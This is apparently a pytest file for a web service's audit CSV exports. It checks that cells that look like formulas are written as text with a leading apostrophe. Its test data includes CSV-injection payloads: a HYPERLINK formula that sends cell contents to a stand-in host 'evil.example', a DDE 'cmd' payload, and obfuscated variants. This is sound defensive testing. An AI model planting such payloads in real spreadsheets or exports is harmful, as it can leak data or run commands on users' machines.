"""The audit's CSV exports open safely in a spreadsheet: a cell that would be read as a formula (an
API key named `=HYPERLINK(...)`, say) is written as text, with a leading apostrophe (OWASP)."""

import csv
import io

import pytest
from rest_framework.test import APIClient

from tests.factories import DecisionFactory, LLMModelFactory, ProviderFactory, make_api_key, make_route

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1",
            # a spreadsheet finds the formula behind quotes, separators and spaces, and reads full-width signs as ASCII
            ";=1+1", '"=1+1', "'=1+1", ", ;@SUM(A1)", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "\u3000\uff1d1+1"]
SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r")


def opened(response) -> list[dict]:
    """The export as a spreadsheet reads it: its rows, by column."""
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def no_formula_anywhere(rows: list[dict]) -> bool:
    return not any(value.lstrip("\"';, \u3000").startswith(SIGNS) and not value.startswith("'") for row in rows for value in row.values())


@pytest.mark.parametrize("name", FORMULAS)
def test_an_api_key_named_like_a_formula_is_text_in_the_decisions_export(db, settings, name):
    settings.REDIS_URL = ""
    make_route("general", [LLMModelFactory(key="gpt-4o", provider=ProviderFactory(slug="openai", kind="openai"))])
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {make_api_key(name)}")
    assert api.post("/api/v1/route", {"category": "general"}, format="json").status_code == 200

    rows = opened(api.get("/api/v1/decisions", {"format": "csv"}))

    assert [row["caller"] for row in rows] == ["'" + name]
    assert no_formula_anywhere(rows)


def test_the_fallback_history_export_writes_formulas_as_text(client, viewer):
    for name in FORMULAS:
        DecisionFactory(outcome="fallback", caller=name, reason=name)

    rows = opened(client.get("/fallbacks/?format=csv"))

    assert sorted(row["caller"] for row in rows) == sorted("'" + name for name in FORMULAS)
    assert no_formula_anywhere(rows)


def test_a_plain_name_is_left_as_it_is_and_the_export_says_its_charset(client, viewer):
    DecisionFactory(outcome="fallback", caller="billing; batch=nightly", reason="a reason")

    response = client.get("/fallbacks/?format=csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert [row["caller"] for row in opened(response)] == ["billing; batch=nightly"]
